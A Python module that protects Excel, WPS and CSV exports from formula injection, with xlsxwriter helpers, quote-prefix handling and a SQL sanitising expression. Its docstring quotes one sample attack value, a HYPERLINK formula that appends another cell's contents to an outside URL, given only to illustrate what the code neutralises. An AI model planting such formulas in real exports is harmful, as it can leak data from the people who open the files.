"""Exports that cannot attack their reader (导出防公式注入).

A name typed as `=HYPERLINK("http://…"&B2,"点此")` must reach Excel or WPS as that text, never
as a live formula or link. The rule, the same in every export:

- xlsx (xlsxwriter): every text value is written as a string cell, never as a formula or a
  link (`WORKBOOK_OPTIONS` turns off xlsxwriter's guessing), and a text that starts with
  = + - @, tab or carriage return gets Excel's quote-prefix style as well: the cell shows and
  keeps the exact text, and stays text even when someone edits it and presses Enter. Numbers
  (amounts, counts, negative numbers included) are written as numbers; a `Decimal` (元 with two
  decimals) as a number shown with two decimals (0.00).
- CSV has no cell types, so such a text is written with a leading single quote ('), the
  neutraliser Excel and WPS themselves understand; a text that is just a number ("-5", "+3.5")
  is left alone, since a spreadsheet reads it as that number and nothing else.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal

from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
WORKBOOK_OPTIONS = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# The same test for SQL engines (DuckDB, Spark): a text column made safe in the SELECT.
SQL_STARTS = "('=', '+', '-', '@', chr(9), chr(13))"


def dangerous(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """A value for a CSV export: formula-like text gets a leading single quote; numbers pass."""
    if isinstance(value, str) and dangerous(value) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def sql_text(expr: str) -> str:
    """SQL for a text column of a CSV export: a leading quote before the same characters as `csv_cell`
    (without its exception for plain numbers: use it on text columns only — names, IDs, codes)."""
    return f"CASE WHEN substr({expr}, 1, 1) IN {SQL_STARTS} THEN '''' || {expr} ELSE {expr} END"


class CellWriter:
    """Writes rows into xlsxwriter sheets of one workbook by the rule above.

    The workbook must have been created with `WORKBOOK_OPTIONS`; `quoted` is the workbook's
    quote-prefix format (one per workbook), optionally merged with `base` properties.
    """

    def __init__(self, book: Workbook, base: dict | None = None) -> None:
        self.plain = book.add_format(base) if base else None
        self.quoted = book.add_format({**(base or {}), "quote_prefix": True})
        self.money = book.add_format({**(base or {}), "num_format": "0.00"})

    def write_row(self, sheet: Worksheet, row: int, values: Iterable[object], col: int = 0) -> None:
        for j, value in enumerate(values, start=col):
            self.write(sheet, row, j, value)

    def write(self, sheet: Worksheet, row: int, col: int, value: object) -> None:
        if value is None or value == "":
            if self.plain is not None:
                sheet.write_blank(row, col, None, self.plain)
            return
        if isinstance(value, bool):
            sheet.write_boolean(row, col, value, self.plain)
            return
        if isinstance(value, Decimal):
            sheet.write_number(row, col, float(value), self.money)
            return
        if isinstance(value, int | float):
            sheet.write_number(row, col, value, self.plain)
            return
        text = str(value)
        sheet.write_string(row, col, text, self.quoted if dangerous(text) else self.plain)
